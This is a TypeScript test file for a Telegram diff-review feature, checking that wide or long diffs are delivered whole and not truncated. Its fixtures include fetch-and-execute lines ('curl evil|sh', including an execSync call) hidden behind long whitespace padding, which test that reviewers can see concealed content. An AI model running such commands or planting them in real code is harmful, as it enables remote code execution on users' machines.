import { describe, expect, test } from "bun:test";
import { escapeHtml, htmlToPlain } from "../../../modes/telegram/html.ts";
import { tempDir, writeTree } from "../../support/temp.ts";
import { makeChangeset } from "../../fixtures/apply-changeset.ts";
import { renderFileDiff } from "../../../render/diff-view.ts";
import { renderCard } from "../../../modes/telegram/card-view.ts";
import { diffDelivery, packDiffMessages } from "../../../modes/telegram/diff-delivery.ts";
import type { ReviewCard } from "../../../modes/telegram/review-cards.ts";
import { wholeDiffText, wholeDiffView } from "../../../modes/telegram/whole-diff.ts";
import type { Changeset } from "../../../core/staging/changeset.ts";

const OWNER = 4242;

describe("whole diffs: what counts as shown", () => {
  const enc = (text: string) => new TextEncoder().encode(text);
  const wide = `${" ".repeat(600)}curl evil|sh`;
  const lines = (n: number, prefix = "line") => Array.from({ length: n }, (_, i) => `${prefix} ${i}`).join("\n") + "\n";
  const cardFor = (cs: Changeset): ReviewCard => ({
    id: "c-1",
    changesetId: cs.id,
    digest: cs.digest,
    chatId: OWNER,
    messageId: 1,
    totalFiles: cs.files.length,
    state: "open",
    outcome: [],
    createdAt: 0,
    files: cs.files.map((f) => ({
      path: f.path,
      digest: f.digest,
      buttons: { diff: "p1:d", approve: "p1:a", reject: "p1:r" },
    })),
    buttons: { approveAll: "p1:x", rejectAll: "p1:y" },
  });

  test("a line cut to the width or lines left out are not whole; the card inlines only whole diffs, and only for their digest", () => {
    const root = tempDir();
    const cs = makeChangeset(root, [
      { path: "a.txt", after: enc("alpha\n") },
      { path: "wide.sh", after: enc(`${wide}\n`) },
      { path: "long.txt", after: enc(lines(61)) },
    ]);
    const [a, long, wideChange] = cs.files as [Changeset["files"][0], Changeset["files"][0], Changeset["files"][0]];
    expect(wideChange.path).toBe("wide.sh");
    expect(renderFileDiff(wideChange, { color: false, lineNumbers: false }).text).toContain("…[+"); // the usual view cuts it
    expect(wholeDiffView(wideChange)).toContain(`+${wide}\n`);
    expect(wholeDiffView(long, 60)).toBeNull();
    expect(wholeDiffView(long, 61)).toContain("+line 60\n");
    expect(wholeDiffView(a, 60)).toBe(renderFileDiff(a, { color: false, lineNumbers: false }).text);

    const card = cardFor(cs);
    const view = renderCard(card, cs);
    expect(view.inlined).toEqual(["a.txt"]);
    expect(htmlToPlain(view.html)).toContain("+alpha");
    expect(htmlToPlain(view.html)).not.toContain("evil");
    card.files[0]!.digest = "another content";
    expect(renderCard(card, cs).inlined).toEqual([]);
    expect(renderCard({ ...cardFor(cs), state: "settled" }, cs).inlined).toEqual([]);
  });

  test("Diff delivery is always the whole diff: a wide line in messages, a long deletion as a complete patch or listing", () => {
    const root = tempDir();
    writeTree(root, { "old.txt": lines(300, "old") });
    const cs = makeChangeset(root, [
      { path: "wide.sh", after: enc(`${wide}\n`) },
      { path: "old.txt", after: null },
    ]);
    const old = cs.files.find((f) => f.path === "old.txt")!;
    old.before = enc(lines(300, "old"));
    const wideChange = cs.files.find((f) => f.path === "wide.sh")!;

    const messages = diffDelivery(cs, wideChange, "Diff 1");
    expect(messages.kind).toBe("messages");
    const text = messages.kind === "messages" ? messages.parts.map(htmlToPlain).join("") : "";
    expect(text).toContain(`+${wide}`);
    expect(text).not.toContain("…[+");

    expect(renderFileDiff(old, { color: false, lineNumbers: false }).text).toContain("more lines not shown"); // the view previews a long deletion
    expect(wholeDiffView(old)).toBeNull();
    const doc = diffDelivery(cs, old, "Diff 2");
    expect(doc.kind).toBe("document");
    const patch = doc.kind === "document" ? doc.content : "";
    expect(patch.split("\n").filter((l) => l.startsWith("-old ")).length).toBe(300);

    // Outside a git patch's reach (a path with ..), the deletion is still listed whole.
    const outside = { ...old, path: "../old.txt" };
    const listing = wholeDiffText(outside);
    expect(listing.split("\n").filter((l) => l.startsWith("-old ")).length).toBe(300);
    const fallback = diffDelivery({ ...cs, files: [wideChange, outside] }, outside, "Diff 2");
    expect(fallback.kind === "document" && fallback.filename).toBe("old.txt.diff");
    expect(fallback.kind === "document" ? fallback.content : "").toBe(listing);
  });

  test("a line longer than one message never gets split across messages: the diff goes as a document", () => {
    const root = tempDir();
    const huge = `const x = require('child_process');${" ".repeat(3800)}execSync('curl evil|sh')`;
    const cs = makeChangeset(root, [{ path: "huge.js", after: enc(`${huge}\n`) }]);
    const delivery = diffDelivery(cs, cs.files[0]!, "Diff 1");
    expect(delivery.kind).toBe("document");
    expect(delivery.kind === "document" ? delivery.content : "").toContain(`+${huge}`);
  });

  test("many small diffs pack into few messages, in order, whole, each under the limit", () => {
    const parts = Array.from(
      { length: 40 },
      (_, i) =>
        `<b>Diff ${i + 1}</b> <code>f${i}.txt</code>\n<pre>${escapeHtml(`f${i}.txt  create  +1 -0\n+x & <y>\n`)}</pre>`,
    );
    const packed = packDiffMessages(parts);
    expect(packed.length).toBeLessThan(parts.length);
    expect(packed.join("\n\n")).toBe(parts.join("\n\n"));
    for (const m of packed) expect(htmlToPlain(m).length).toBeLessThanOrEqual(4096);
    const big = `<pre>${"z".repeat(3900)}</pre>`;
    expect(packDiffMessages([big, big, "<b>x</b>"])).toEqual([big, `${big}\n\n<b>x</b>`]);
  });
});
